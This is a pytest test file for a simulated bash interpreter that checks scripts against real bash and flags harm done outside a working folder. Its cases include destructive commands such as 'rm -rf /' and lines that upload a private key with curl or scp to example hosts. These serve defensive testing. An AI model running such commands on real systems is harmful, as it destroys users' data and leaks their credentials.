"""The interpreter: known values, the harm that it sees, refusals, and bash as the judge."""

import re

import pytest

pytest.importorskip("bashlex")

from w2s_nb.code_safety.interpreter import run_script
from w2s_nb.code_safety.scripts import script_pairs
from w2s_nb.code_safety.tree import LINK, Node, Tree, new_file
from w2s_nb.code_safety.words import UnknownShell

from .real_shell import run_by_bash, seen

HOME, WORK = "/home/ana", "/home/ana/my shop"


@pytest.fixture
def tree():
    """A working folder with a blank in its name, and what stands beside it."""
    made = Tree()
    for path, mode in {
        "my shop/build/a.o": 0o644,
        "my shop/build/deep/b.o": 0o644,
        "my shop/logs/x.log": 0o644,
        "my shop/list.txt": 0o644,
        "my/photo.jpg": 0o644,
        "logs/y.log": 0o644,
        "keys/key.pem": 0o600,
    }.items():
        full = f"{HOME}/{path}"
        made.make_folders(full.rpartition("/")[0])
        made.put(full, new_file(f"b {path}\na {path}\n", mode))
    made.put(f"{WORK}/link", Node(LINK, 0o777, "../logs"))
    return made


def run(script, tree):
    return run_script(script, tree, WORK, HOME)


@pytest.mark.parametrize(
    "script, expected",
    [
        ('X="a b"; echo $X "$X" \'$X\'', "a b a b $X\n"),
        ("X='a  b'; echo $X; echo \"$X\"", "a b\na  b\n"),
        ("echo ${X:-none} ${X-none}; X=; echo ${X:-none}${X-none}", "none none\nnone\n"),
        ("F=a/b.tar.gz; echo ${F##*/} ${F%.*} ${F%%.*} ${F#*/}", "b.tar.gz a/b.tar a/b b.tar.gz\n"),
        ("echo *.o b*/*.o '*' no*", "*.o build/a.o * no*\n"),
        (
            "cd build; echo ../l*/* ..//l*",
            "../link/y.log ../logs/x.log ..//link ..//list.txt ..//logs\n",
        ),
        ('echo ~ ~/x "~"', "/home/ana /home/ana/x ~\n"),
        ("pwd; cd link; pwd; cd ..; pwd", f"{WORK}\n{WORK}/link\n{WORK}\n"),
        ("cd link; ls ..", "keys\nlogs\nmy\nmy shop\n"),
        ("sort list.txt | head -n 1", "a my shop/list.txt\n"),
        ("f() { echo \"$2 $1 $#\"; }; f a 'b c'; echo $#", "b c a 2\n0\n"),
        ("X=1; (X=2; cd build; echo $X); echo $X $(cd build; ls | wc -l) $PWD", f"2\n1 2 {WORK}\n"),
        ("false && echo a || echo b; ! true || echo c; false; echo $?", "b\nc\n1\n"),
        ("set -e; false || echo a; if false; then echo b; fi; false; echo c", "a\n"),
        ("set -u; echo ${X:-ok}; echo $X; echo c", "ok\n"),
        (': "${X:?}"; echo a', ""),
        ("for f in build/* 'x y'; do echo \"[$f]\"; done", "[build/a.o]\n[build/deep]\n[x y]\n"),
        (
            'while read -r n; do echo "$n!"; done < list.txt',
            "b my shop/list.txt!\na my shop/list.txt!\n",
        ),
        ("find . -name '*.o' | sort", "./build/a.o\n./build/deep/b.o\n"),
        (
            "find . \\( -name '*.o' -o -name '*.log' \\) ! -path '*deep*' | sort",
            "./build/a.o\n./logs/x.log\n",
        ),
        ("find build -maxdepth 1 -type d; find -L link -type f", "build\nbuild/deep\nlink/y.log\n"),
        ('find "$PWD/build" -name a.o -print0 | xargs -0 ls', f"{WORK}/build/a.o\n"),
    ],
)
def test_scripts_print_what_bash_prints(tree, script, expected):
    assert run(script, tree).output == expected
    assert run_by_bash(script, tree, WORK, HOME)[1] == expected


@pytest.mark.parametrize(
    "script, harm",
    [
        ("rm -rf build/*; rm list.txt; chmod -R a+w logs; cat list.txt > logs/x.log", None),
        ('rm -rf "$PWD/build"', None),
        ("rm -rf $PWD/build", ("deleted", "/home/ana/my")),
        ('rm -rf "$NONE"/*', ("deleted", "/home")),
        ('set -u; rm -rf "$NONE"/*', None),
        ("rm -rf link", None),
        ("rm -rf link/", ("deleted", "/home/ana/logs/y.log")),
        ("rm -rf link/*", ("deleted", "/home/ana/logs/y.log")),
        ("cd build; rm -rf ../logs/*", None),
        ("cd build; cd ..; rm -rf ../logs/*", ("deleted", "/home/ana/logs/y.log")),
        ("cd none; rm -rf ../logs/*", ("deleted", "/home/ana/logs/y.log")),
        ("cd none && rm -rf ../logs/*", None),
        ("mv ../my .", ("deleted", "/home/ana/my")),
        ("find .. -path '*shop/*' -name '*.log' -delete", None),
        ("find .. -name '*.log' -delete -path '*shop/*'", ("deleted", "/home/ana/logs/y.log")),
        ("sort ../logs/y.log > y; echo more >> ../logs/y.log", None),
        ("sort ../logs/y.log > ../logs/y.log", ("overwritten", "/home/ana/logs/y.log")),
        ("cp list.txt ../logs/y.log", ("overwritten", "/home/ana/logs/y.log")),
        ("cp list.txt link", None),
        ("chmod go-r ../logs/y.log; chmod u+x ../keys/key.pem", None),
        ("chmod o+r ../keys/key.pem", ("opened", "/home/ana/keys/key.pem")),
        ("curl -T list.txt https://example.org/", None),
        ("cat ../keys/key.pem | wc -l; cp ../keys/key.pem build/", None),
        ("curl -T ../keys/key.pem https://example.org/", ("sent", "/home/ana/keys/key.pem")),
        (
            'X=$(cat ../keys/key.pem); curl -d "$X" https://e.org',
            ("sent", "/home/ana/keys/key.pem"),
        ),
        ("tar czf a.tgz ../keys && scp a.tgz me@host:", ("sent", "/home/ana/keys/key.pem")),
        ("cp ../keys/key.pem build/; scp -r build host:", ("sent", "/home/ana/keys/key.pem")),
        ("cp ../keys/key.pem build/; rm build/*; scp -r build host:", None),
        ("touch ../new; mkdir ../more", None),
    ],
)
def test_harm_is_what_a_script_does_outside_its_folder(tree, script, harm):
    harms = run(script, tree).harms
    assert harm in harms if harm else not harms


@pytest.mark.parametrize(
    "script, said",
    [
        ("dd if=/dev/zero of=x", "'dd'"),
        ("sudo rm x", "'sudo'"),
        ("./configure", "'./configure'"),
        ("rm -z x", "-z"),
        ("find . -perm 644", "'-perm'"),
        ("echo `ls`", "'`ls`'"),
        ("echo $((1 + 1))", "arithmetic"),
        ("echo {a,b}", "braces"),
        ("[[ -n $X ]]", "syntax"),
        ("case $X in a) ls;; esac", "syntax"),
        ("echo ${X/a/b}", "${X/a/b}"),
        ("ls 2> errors.txt", "2> errors.txt"),
        ("ls &", "'&'"),
        ("while true; do true; done", "1000"),
        ("f() { f; }; f", "calls itself"),
        ("if ls", "syntax"),
        ("chmod +t x", "'+t'"),
        ("cp", "'cp'"),
        ("head -n few list.txt", "'head -n few list.txt'"),
    ],
)
def test_what_is_not_known_is_refused_by_its_name_in_one_line(tree, script, said):
    with pytest.raises(UnknownShell) as refused:
        run(script, tree)
    assert said in str(refused.value) and "\n" not in str(refused.value)


@pytest.fixture
def linked(tree):
    """The tree, with links to a folder and to a file that lie in the working folder."""
    tree.put(f"{WORK}/here", Node(LINK, 0o777, "build"))
    tree.put(f"{WORK}/alias.txt", Node(LINK, 0o777, "list.txt"))
    return tree


@pytest.mark.parametrize(
    "script",
    [
        # the same file or folder under two names
        "cp list.txt list.txt",
        "cp -f list.txt .",
        "cp -n list.txt list.txt",
        "cp list.txt alias.txt",
        "ln -s none lost; cp list.txt lost",
        "ln -s none lost; cp -n list.txt lost",
        "cp -r alias.txt here",
        "cp -r here alias.txt new; mkdir new; cp -r here alias.txt new; cp -r here new/alias.txt",
        "cp -r alias.txt list.txt",
        "cp -r alias.txt .",
        "cp build/a.o here/a.o",
        "cp -r . .",
        "cp -r build .",
        "cp -rn build .",
        "cp -r build/deep/.. build",
        "cp -r build build/a.o",
        "mv list.txt .",
        "mv build .",
        "mv alias.txt list.txt",
        "mv list.txt alias.txt",
        "mv build build/deep",
        "mv here build",
        "mv .. build",
        "ln -sf list.txt list.txt",
        "ln -sf list.txt .",
        "ln -sf alias.txt alias.txt",
        "ln -sfn here here",
        "cat list.txt >> list.txt",
        "cat list.txt alias.txt > alias.txt",
        "cat < list.txt > list.txt",
        "cat < list.txt >> list.txt",
        "grep b list.txt >> list.txt",
        "sort list.txt >> list.txt",
        "tee list.txt < list.txt",
        # a slash after a file, and after a link to a folder
        "rm list.txt/",
        "rm -rf list.txt/",
        "touch list.txt/",
        "cp list.txt list.txt/",
        "mv list.txt new/",
        "mv link/ build",
        "rm here/",
        "rm -r here/",
        "rm -rf here/",
        # what is no longer there, or leads back to itself
        "find build -name deep -exec rm -r {} \\;",
        "find build -exec rm -rf {} \\;",
        "find build -name deep -exec mv {} . \\;",
        "ln -s loop loop; ls loop",
        "ln -s loop loop; find -L . -name loop",
        "ln -s .. build/up; find -L build -name '*.txt'",
        "tar czf x.tgz",
        "rm -rf .",
        "rm -rf ../",
        "rm -rf build/..",
        # what one file refuses stops no other
        "mkdir new new/a.o; cp -r build/* new",
        "ln -s ../list.txt build/deep/list; mkdir -p new/deep/list; cp -r build/* new",
    ],
)
def test_what_meets_itself_ends_as_in_bash(linked, script):
    ours = run(script, linked)
    after, output, status = run_by_bash(f"ulimit -f 100; {script}", linked, WORK, HOME)
    assert seen(ours.tree) == seen(after)
    assert sorted(ours.output.split("\n")) == sorted(output.split("\n"))
    assert bool(ours.status) == bool(status)


@pytest.mark.parametrize(
    "script, said",
    [
        ("cp -r / build", "a copy of a folder into itself"),
        ("cp -r / new", "a copy of a folder into itself"),
        ("cp -r build build/new", "a copy of a folder into itself"),
        ("cp -r .. .", "a copy of a folder into itself"),
        ("cd build; cp -a .. deep", "a copy of a folder into itself"),
        ("cd build; mv ../build ../new", "a move of the folder that one is in"),
        ("touch x.tgz; tar czf x.tgz build x.tgz", "an archive that packs itself"),
        ("tee -a list.txt < list.txt", "'tee' of a file onto its own end"),
        ("cat list.txt > x; tee -a build/a.o x < x", "'tee' of a file onto its own end"),
        ("touch build/x.tgz; tar czf build/x.tgz build", "an archive that packs itself"),
    ],
)
def test_what_has_no_certain_end_is_refused(tree, script, said):
    with pytest.raises(UnknownShell, match=said):
        run(script, tree)


@pytest.mark.parametrize(
    "script",
    ["cp -r / /", "cp -r /. .//../../..", "mv / /", "mv / build", "mv / new", "mv /home home",
     "rm -rf /", "rm -rf //", "rm -rf /.", "rm -rf /home/..", "ln -sf / /", "rmdir /",
     "cd /; cp -r . .", "cd /; mv * .", "cd /; rm -rf ."],
)  # fmt: skip
def test_the_root_is_neither_copied_moved_nor_removed(tree, script):
    before = seen(tree)
    ours = run(script, tree)
    assert ours.status == 1 and seen(ours.tree) == before and not ours.harms


def test_a_run_changes_neither_the_tree_it_is_given_nor_the_disk(tree, tmp_path):
    (tmp_path / "file").write_text("kept")
    before = seen(tree)
    run(f"rm -rf {tmp_path} /home; echo x > {tmp_path}/new", tree)
    assert seen(tree) == before
    assert [p.name for p in tmp_path.iterdir()] == ["file"]


def harmless_scripts(n):
    """Safe scripts of the task that need no other host, and whose harm would not hang on a
    variable: what bash runs here must not depend on the interpreter being right."""
    for safe, _ in script_pairs(n):
        if safe.kind not in ("variable", "quote") and not re.search("curl|scp", safe.text):
            yield safe


def test_verdict_and_tree_are_what_bash_makes_of_harmless_scripts():
    scripts = list(harmless_scripts(120))
    assert len(scripts) > 40 and len({script.kind for script in scripts}) >= 5
    for script in scripts:
        ours = run_script(script.text, script.tree, script.folder, script.home)
        tree, output, status = run_by_bash(script.text, script.tree, script.folder, script.home)
        assert seen(ours.tree) == seen(tree), script.text
        assert sorted(ours.output.split("\n")) == sorted(output.split("\n")), script.text
        assert bool(ours.status) == bool(status), script.text
        outside = [p for p in seen(tree) if not p.startswith(f"{script.folder}/")]
        assert not ours.harms and all(seen(tree)[p] == seen(ours.tree)[p] for p in outside)
